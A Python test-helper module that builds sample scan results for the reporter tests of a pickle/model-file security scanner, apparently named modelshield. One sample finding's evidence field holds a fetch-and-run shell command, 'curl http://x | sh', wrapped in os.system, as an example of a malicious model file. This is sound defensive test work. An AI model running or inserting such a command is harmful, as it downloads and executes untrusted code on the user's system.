"""ScanResult samples for the reporter tests, built directly from the result types.

Plain functions rather than conftest fixtures, so that the module name stays unique across
the test tree (no conftest/package name clashes for pytest or mypy).
"""

from __future__ import annotations

from modelshield.findings import (
    Confidence,
    Coverage,
    CoverageStatus,
    Finding,
    Location,
    ScanError,
    ScanResult,
    Severity,
)

TORCH = "models/evil model.pt"
PARTIAL = "models/big.pkl"


def critical_call() -> Finding:
    return Finding(
        rule_id="MS101",
        severity=Severity.CRITICAL,
        confidence=Confidence.HIGH,
        message="os.system is called when the file is loaded",
        location=Location(
            TORCH, member="archive/data.pkl", offset=58, opcode_index=12, opcode="REDUCE"
        ),
        evidence="os.system('curl http://x | sh')",
        cwe=502,
        reason="runs a shell command",
    )


def sample_findings() -> tuple[Finding, ...]:
    return (
        Finding(
            "MS108",
            Severity.INFO,
            Confidence.HIGH,
            "persistent IDs are resolved by the loader",
            Location(
                TORCH, member="archive/data.pkl", offset=2, opcode_index=1, opcode="BINPERSID"
            ),
        ),
        Finding(
            "MS105",
            Severity.MEDIUM,
            Confidence.LOW,
            "imports foo.bar",
            Location(PARTIAL, offset=10, opcode_index=3, opcode="GLOBAL"),
            evidence="foo.bar",
            cwe=502,
        ),
        critical_call(),
        Finding(
            "MS102",
            Severity.HIGH,
            Confidence.MEDIUM,
            "calls a callable outside the allowlist",
            Location(PARTIAL, offset=40, opcode_index=9, opcode="REDUCE"),
            evidence="numpy.testing.assert_equal(1, 2)",
            cwe=502,
            reason="not on the allowlist",
        ),
        Finding(
            "MS110",
            Severity.LOW,
            Confidence.HIGH,
            "bytes after the last pickle",
            Location(PARTIAL, offset=900),
        ),
    )


def sample_coverage() -> tuple[Coverage, ...]:
    return (
        Coverage(TORCH, CoverageStatus.SCANNED, "zip", size=4096, sha256="ab" * 32),
        Coverage(TORCH, CoverageStatus.SCANNED, "pickle", member="archive/data.pkl", size=900),
        Coverage(PARTIAL, CoverageStatus.PARTIAL, "pickle", reason="opcode limit reached"),
        Coverage(
            "models/blob.bin",
            CoverageStatus.INCONCLUSIVE,
            "unknown",
            reason="format not recognised",
        ),
        Coverage("models/README.md", CoverageStatus.SKIPPED, "text", reason="not a model file"),
        Coverage("models/clean.pkl", CoverageStatus.SCANNED, "pickle", size=120),
    )


def sample_result() -> ScanResult:
    """Findings of every severity, partial and inconclusive coverage, one error."""
    return ScanResult(
        findings=sample_findings(),
        coverage=sample_coverage(),
        errors=(ScanError("models/locked.pkl", "permission denied"),),
        suppressed=(
            Finding(
                "MS105",
                Severity.MEDIUM,
                Confidence.LOW,
                "imports baz.qux",
                Location("models/clean.pkl", offset=5),
                evidence="baz.qux",
            ),
        ),
        duration_s=0.25,
        bytes_read=5116,
        inputs=("models",),
    )


def clean_result() -> ScanResult:
    return ScanResult(
        findings=(),
        coverage=(
            Coverage("a.pkl", CoverageStatus.SCANNED, "pickle"),
            Coverage("b.pkl", CoverageStatus.SCANNED, "pickle"),
            Coverage("c.txt", CoverageStatus.SKIPPED, "text", reason="not a model file"),
        ),
        inputs=("a.pkl", "b.pkl", "c.txt"),
    )


def incomplete_result() -> ScanResult:
    return ScanResult(
        findings=(
            Finding(
                "MS108",
                Severity.INFO,
                Confidence.HIGH,
                "persistent IDs",
                Location("a.pkl", offset=2),
            ),
        ),
        coverage=(
            Coverage("a.pkl", CoverageStatus.SCANNED, "pickle"),
            Coverage("b.pkl", CoverageStatus.PARTIAL, "pickle", reason="time limit reached"),
        ),
        inputs=("a.pkl", "b.pkl"),
    )
